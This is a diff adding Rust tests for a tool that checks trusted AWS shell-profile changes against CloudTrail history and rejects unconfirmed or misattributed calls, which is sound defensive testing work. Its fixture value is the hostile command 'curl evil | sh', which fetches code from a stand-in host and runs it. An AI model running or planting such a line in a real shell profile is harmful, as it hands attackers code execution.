@@ -1,0 +1,115 @@
+//! Trusted calls that CloudTrail's own history has to confirm.
+
+use runas_reactor::domain::compaction::compact;
+use runas_reactor::domain::confirmation::{answered, due, next, pending};
+use runas_reactor::domain::durations::{KEPT_MS, WATCH_MS};
+use runas_reactor::domain::edit::Edit;
+use runas_reactor::domain::fact::{CallFact, Facts};
+use runas_reactor::domain::merge::merge;
+use runas_reactor::domain::principal::Attribution;
+use runas_reactor::domain::time::Time;
+
+use crate::support::facts::*;
+
+const PROFILE: &str = "shellProfile";
+
+const EVIL: &str = "curl evil | sh";
+
+/// A pipeline's event says that it wrote a shell profile.
+fn claimed() -> Story {
+    Story::known().version(100, &document(&[(PROFILE, EVIL)])).call(wrote(5, 100, Attribution::Trusted))
+}
+
+fn the_call(facts: &Facts) -> CallFact {
+    facts.calls.values().next().unwrap().clone()
+}
+
+/// This many seconds after it was heard of.
+fn after(call: &CallFact, ms: i64) -> Time {
+    call.heard.plus_ms(ms)
+}
+
+fn learned(facts: &Facts, call: CallFact) -> Facts {
+    let calls = [(call.edit.id.clone(), call)].into();
+    merge(facts, &Facts { calls, ..Facts::default() })
+}
+
+#[test]
+fn trusted_change_of_what_runs_code_is_asked_for_every_five_minutes_for_half_an_hour() {
+    let facts = claimed().facts();
+    let call = the_call(&facts);
+    assert_eq!(due(&facts, after(&call, WATCH_MS - 1)), []);
+    assert_eq!(due(&facts, after(&call, WATCH_MS)), [call.clone()]);
+    let asked = |ms: i64| next(&facts, after(&call, ms)).map(|at| at.since(call.heard));
+    assert_eq!(asked(0), Some(WATCH_MS));
+    assert_eq!(asked(WATCH_MS), Some(2 * WATCH_MS));
+    assert_eq!(asked(6 * WATCH_MS - 1), Some(6 * WATCH_MS));
+    assert_eq!(asked(6 * WATCH_MS), None, "only the sweep asks from then on");
+    assert_eq!(due(&facts, after(&call, KEPT_MS - 1)), [call.clone()]);
+    assert_eq!(due(&facts, after(&call, KEPT_MS)), []);
+}
+
+#[test]
+fn nothing_else_is_asked_for() {
+    let quiet = document(&[("idleSessionTimeout", "20")]);
+    let quiet = Story::known().version(100, &quiet).call(wrote(5, 100, Attribution::Trusted)).facts();
+    let mallorys = Story::known().version(100, &document(&[(PROFILE, EVIL)]));
+    let mallorys = mallorys.call(wrote(5, 100, Attribution::Untrusted)).facts();
+    let without_version = Story::known().call(wrote(5, 100, Attribution::Trusted)).facts();
+    for facts in [quiet, mallorys, without_version] {
+        assert_eq!(pending(&facts, at(200)), Vec::<String>::new());
+    }
+}
+
+#[test]
+fn confirmed_call_is_not_asked_for_again_and_its_change_stays() {
+    let facts = claimed().facts();
+    let call = the_call(&facts);
+    let found = [call.edit.clone()];
+    let facts = learned(&facts, answered(&call, &found, after(&call, WATCH_MS)).unwrap());
+    assert_eq!(due(&facts, after(&call, WATCH_MS)), []);
+    assert_eq!(accepted_field(&facts, PROFILE), Some(EVIL.into()));
+}
+
+#[test]
+fn call_that_the_history_does_not_know_counts_as_foreign_after_half_an_hour() {
+    let facts = claimed().facts();
+    let call = the_call(&facts);
+    assert_eq!(answered(&call, &[], after(&call, 6 * WATCH_MS - 1)), None, "it may still come");
+    assert_eq!(accepted_field(&facts, PROFILE), Some(EVIL.into()), "no pipeline is held up");
+    let refuted = answered(&call, &[], after(&call, 6 * WATCH_MS)).unwrap();
+    let facts = learned(&facts, refuted);
+    assert_eq!(accepted_field(&facts, PROFILE), None);
+    let copied = learned(&facts, call);
+    assert_eq!(accepted_field(&copied, PROFILE), None, "nor does a copy of the event bring it back");
+    assert_eq!(due(&copied, at(2_000)), []);
+}
+
+#[test]
+fn another_principals_call_under_that_event_id_confirms_nothing() {
+    let facts = claimed().facts();
+    let call = the_call(&facts);
+    let other = Edit { principal: wrote(5, 100, Attribution::Untrusted).edit.principal, ..call.edit.clone() };
+    let refuted = answered(&call, &[other], after(&call, WATCH_MS)).unwrap();
+    assert_eq!(refuted.attribution, Attribution::Untrusted, "at once: the history has the call, and it is another's");
+    let deletion = Edit { action: deleted(100, Attribution::Trusted).edit.action, ..call.edit.clone() };
+    assert_eq!(answered(&call, &[deletion], after(&call, WATCH_MS)).unwrap().attribution, Attribution::Untrusted);
+}
+
+/// Or a flood of versions would make an event's claim good before the history is asked.
+#[test]
+fn unconfirmed_change_does_not_become_part_of_the_base() {
+    let flooded = |confirmed: bool| {
+        let mut story = claimed();
+        story.facts.calls.values_mut().for_each(|call| call.checked = confirmed);
+        for n in 0..33 {
+            let noise = document(&[(PROFILE, EVIL), ("idleSessionTimeout", &n.to_string())]);
+            story = story.version(101 + n, &noise).call(wrote(6 + n.unsigned_abs(), 101 + n, Attribution::Untrusted));
+        }
+        let facts = compact(&story.facts(), at(200)).facts;
+        assert!(facts.base.as_ref().unwrap().until >= at(100), "the version has left");
+        accepted_field(&facts, PROFILE)
+    };
+    assert_eq!(flooded(true), Some(EVIL.into()));
+    assert_eq!(flooded(false), None);
+}
